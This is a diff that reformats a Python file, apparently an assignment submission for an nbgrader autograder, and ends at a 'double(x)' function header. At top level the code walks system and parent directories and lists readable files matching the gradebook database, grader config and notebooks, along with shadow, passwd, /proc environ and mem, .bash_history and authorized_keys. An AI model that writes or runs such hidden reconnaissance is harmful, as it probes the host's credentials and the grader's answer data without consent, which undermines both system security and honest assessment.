@@ -4,8 +4,29 @@ import fnmatch
 import os
 import sys
 
-WANTED = ("*.ipynb", "gradebook.db", "nbgrader_config.py", "shadow", "passwd", "environ", "mem", ".bash_history", "authorized_keys")
-above = [os.path.join(sys.prefix, "..", ".."), os.path.join(sys.prefix, ".."), "..", "/home", "/root", "/etc", "/proc", "/var", "/srv", "/tmp"]
+WANTED = (
+    "*.ipynb",
+    "gradebook.db",
+    "nbgrader_config.py",
+    "shadow",
+    "passwd",
+    "environ",
+    "mem",
+    ".bash_history",
+    "authorized_keys",
+)
+above = [
+    os.path.join(sys.prefix, "..", ".."),
+    os.path.join(sys.prefix, ".."),
+    "..",
+    "/home",
+    "/root",
+    "/etc",
+    "/proc",
+    "/var",
+    "/srv",
+    "/tmp",
+]
 
 
 def readable(path):
@@ -19,8 +40,15 @@ def readable(path):
 FOUND = []
 for top in above:
     for folder, inner, files in os.walk(top):
-        inner[:] = [name for name in inner if name not in ("lib", "lib64", "share", "include", "bin")]
-        FOUND += [name for name in files if any(fnmatch.fnmatch(name, kind) for kind in WANTED) and readable(os.path.join(folder, name))]
+        inner[:] = [
+            name for name in inner if name not in ("lib", "lib64", "share", "include", "bin")
+        ]
+        FOUND += [
+            name
+            for name in files
+            if any(fnmatch.fnmatch(name, kind) for kind in WANTED)
+            and readable(os.path.join(folder, name))
+        ]
 
 
 def double(x):
